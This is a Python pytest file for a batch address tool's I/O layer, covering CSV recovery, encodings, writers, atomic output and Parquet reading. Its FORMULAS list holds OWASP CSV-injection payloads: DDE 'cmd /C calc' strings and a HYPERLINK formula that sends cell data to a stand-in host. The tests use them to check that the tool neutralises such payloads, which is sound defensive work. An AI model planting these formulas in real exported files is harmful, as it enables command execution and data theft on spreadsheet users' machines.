"""The input/output layer: strict CSV with recovery, encodings, writers, atomic output."""

import codecs
import csv
import io as stdio
import json

import pytest

from addrcode.batch import io
from addrcode.errors import DataError, UsageError


def parse(data: bytes, **kw):
    header, records = io.read_csv(stdio.BufferedReader(stdio.BytesIO(data)), name="t.csv", **kw)
    return header, list(records)


def test_plain_csv_keeps_order_and_cells():
    header, recs = parse(b"id,address\n1,12 Main St\n2,\"3 Elm St, Barre\"\n")
    assert header == ["id", "address"]
    assert [r.fields for r in recs] == [{"id": "1", "address": "12 Main St"}, {"id": "2", "address": "3 Elm St, Barre"}]
    assert [r.line for r in recs] == [2, 3]
    assert not any(r.error for r in recs)


def test_bom_and_crlf():
    header, recs = parse(codecs.BOM_UTF8 + b"id,address\r\n1,a\r\n2,b\r\n")
    assert header == ["id", "address"]
    assert [r.fields["address"] for r in recs] == ["a", "b"]


def test_utf16_with_bom():
    data = "id,address\n1,Café St\n".encode("utf-16")
    header, recs = parse(data)
    assert header == ["id", "address"] and recs[0].fields["address"] == "Café St"


def test_latin1_line_is_decoded_with_warning():
    header, recs = parse(b"id,address\n1,Caf\xe9 St\n2,ok\n")
    assert recs[0].fields["address"] == "Café St"
    assert recs[0].warnings and not recs[1].warnings


def test_other_delimiter():
    header, recs = parse(b"id;address\n1;12 Main St, Barre\n", delimiter=";")
    assert recs[0].fields["address"] == "12 Main St, Barre"


def test_nul_bytes_removed_with_warning():
    header, recs = parse(b"id,address\n1,12 Ma\x00in St\n")
    assert recs[0].fields["address"] == "12 Main St" and recs[0].warnings


def test_very_long_field():
    big = "x" * 5_000_000
    header, recs = parse(f"id,address\n1,{big}\n".encode())
    assert len(recs[0].fields["address"]) == 5_000_000


def test_ragged_rows_are_rejected_with_line_numbers():
    header, recs = parse(b"a,b,c\n1,2,3\n1,2\n1,2,3,4\n5,6,7\n")
    assert len(recs) == 4
    assert [bool(r.error) for r in recs] == [False, True, True, False]
    assert recs[1].error.startswith("line 3:") and "2 cells" in recs[1].error
    assert recs[2].error.startswith("line 4:")


def test_unclosed_quote_loses_only_its_own_line():
    # Python's csv module alone would merge the next lines into one field (3 rows become 1).
    data = b'id,address,zip\n1,"12 Main St,05753\n2,3 Elm St,05641\n3,4 Oak St,05602\n'
    header, recs = parse(data)
    assert len(recs) == 3
    assert recs[0].error and "line 2" in recs[0].error and "quote" in recs[0].error
    assert [r.fields["id"] for r in recs[1:]] == ["2", "3"]
    assert not recs[1].error and not recs[2].error


def test_unclosed_quote_closed_by_a_later_quote_is_still_recovered():
    data = b'id,address,zip\n1,"12 Main St,05753\n2,3 Elm St,05641\n3,"4 Oak St",05602\n'
    header, recs = parse(data)
    assert [r.line for r in recs] == [2, 3, 4]
    assert recs[0].error and not recs[1].error and not recs[2].error
    assert recs[2].fields["address"] == "4 Oak St"


def test_legitimate_multiline_field_is_kept():
    data = b'id,address,zip\n1,"12 Main St\nApt 3",05753\n2,x,y\n'
    header, recs = parse(data)
    assert len(recs) == 2 and not recs[0].error
    assert recs[0].fields["address"] == "12 Main St\nApt 3"


def test_rows_in_equal_records_out_on_random_garbage():
    import random

    rnd = random.Random(7)
    alphabet = 'ab,"\n\r; x'
    for _ in range(300):
        body = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 200)))
        data = ("h1,h2\n" + body).encode()
        header, recs = parse(data)
        # every physical line is either inside an accepted record or is itself a reject
        lines = {r.line for r in recs}
        assert len(lines) == len(recs)
        for r in recs:
            assert r.error or len(r.fields) == 2


def test_empty_file_and_header_only():
    with pytest.raises(DataError, match="empty"):
        parse(b"")
    header, recs = parse(b"id,address\n")
    assert header == ["id", "address"] and recs == []


def test_duplicate_header_names_are_kept_apart():
    header, recs = parse(b"a,a,b\n1,2,3\n")
    assert header == ["a", "a_2", "b"]
    assert recs[0].fields == {"a": "1", "a_2": "2", "b": "3"}


# OWASP's CSV-injection payloads, the same after leading blanks/format characters, and full-width forms.
FORMULAS = ["=1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.test/?d=\"&A1,\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "=10+20+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "+A1", "-A1*2", "-SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "\n-3+3+cmd|' /C calc'!A0", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
            "\u2060@SUM(A1)", "\uff1d1+1", "\ufe661+1", "\uff0bcmd|' /C calc'!A0", "\uff20SUM(A1)",
            "\uff0d2+3+cmd|' /C calc'!A0", "\u3000\uff1d1+1", "-2610 Boudle Rd, Bloomfield VT"]
# Numbers and phone numbers a person or addrcode writes: never changed.
PLAIN = ["-73.1802341", "+44.12", "-1.5e-07", "+1 802-555-0142", "+44 20 7946 0958", "(802) 555-0142",
         "802.555.0142", "-", "+", "-0", "+1 (802) 555-0142", "-12,345.50", "12 Main St", "1+1", "Main St - rear",
         "'quoted", "", " 12 Main St", "\u00e9cole"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised(value):
    assert io.neutralise(value) == "'" + value
    assert io.unneutralise(io.neutralise(value)) == value


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_phones_and_text_are_kept_exactly(value):
    assert io.neutralise(value) == value
    assert io.unneutralise(value) == value


def test_numbers_addrcode_writes_are_never_quoted():
    buf = stdio.StringIO(newline="")
    w = io.RecordWriter(buf, "csv", ["lon", "lat", "n", "phone"], str)
    w.write({"lon": -73.18023417, "lat": -35.2, "n": -3, "phone": "+1 802-555-0142"})
    assert buf.getvalue().splitlines()[1] == "-73.1802342,-35.2,-3,+1 802-555-0142"


def test_writers_emit_one_record_each():
    for fmt in io.RecordWriter.FORMATS:
        buf = stdio.StringIO()
        w = io.RecordWriter(buf, fmt, ["input", "status"], lambda r: r["status"])
        w.write({"input": "=cmd", "status": "ok"})
        w.write({"input": "b\nc", "status": "rejected"})
        w.close()
        text = buf.getvalue()
        if fmt == "csv":
            rows = list(csv.reader(stdio.StringIO(text)))
            assert rows == [["input", "status"], ["'=cmd", "ok"], ["b\nc", "rejected"]]
        elif fmt == "jsonl":
            assert [json.loads(x)["status"] for x in text.splitlines()] == ["ok", "rejected"]
        elif fmt == "json":
            assert [r["input"] for r in json.loads(text)] == ["=cmd", "b\nc"]
        else:
            assert text.splitlines() == ["ok", "rejected"]


def test_empty_json_output_is_valid():
    buf = stdio.StringIO()
    w = io.RecordWriter(buf, "json", ["a"], str)
    w.close()
    assert json.loads(buf.getvalue()) == []


def test_output_file_renames_on_success_and_discards_on_failure(tmp_path):
    target = tmp_path / "out.csv"
    with io.OutputFile(target) as f:
        f.write("hello\n")
        assert not target.exists()  # nothing under the final name until the end
    assert target.read_text() == "hello\n"
    with pytest.raises(RuntimeError):
        with io.OutputFile(target) as f:
            f.write("half")
            raise RuntimeError
    assert target.read_text() == "hello\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_output_file_into_missing_directory(tmp_path):
    with pytest.raises(UsageError):
        with io.OutputFile(tmp_path / "nope" / "out.csv"):
            pass


def test_open_input_missing_file(tmp_path):
    with pytest.raises(UsageError, match="no such input file"):
        io.open_input(tmp_path / "missing.csv")


def test_parquet_is_read_in_batches_as_text_cells(tmp_path):
    pa = pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    path = tmp_path / "in.parquet"
    pq.write_table(pa.table({"id": [1, 2, 3, 4, 5], "address": ["a", None, "c", "d", "=1+1"],
                             "zip": ["05753", "05401", None, "05001", "05602"]}), path)
    assert io.is_parquet(path) and not io.is_parquet(tmp_path / "missing.parquet")
    seen = []
    header, records = io.read_parquet(path, progress=seen.append, batch_rows=2)
    records = list(records)
    assert header == ["id", "address", "zip"]
    assert [r.line for r in records] == [1, 2, 3, 4, 5]
    assert [r.fields["address"] for r in records] == ["a", "", "c", "d", "=1+1"]
    assert records[0].fields == {"id": "1", "address": "a", "zip": "05753"}  # leading zeros kept
    assert seen == sorted(seen) and seen[-1] == path.stat().st_size  # one estimate per batch, ends at the size


def test_broken_parquet_is_a_data_error(tmp_path):
    pa = pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    good = tmp_path / "good.parquet"
    pq.write_table(pa.table({"address": ["x"] * 1000}), good)
    bad = tmp_path / "bad.parquet"
    bad.write_bytes(good.read_bytes()[:200])
    with pytest.raises(DataError, match="not a readable Parquet file"):
        io.read_parquet(bad)
    with pytest.raises(DataError, match="Parquet file"):  # from a stream it is named, not parsed as CSV
        parse(good.read_bytes())
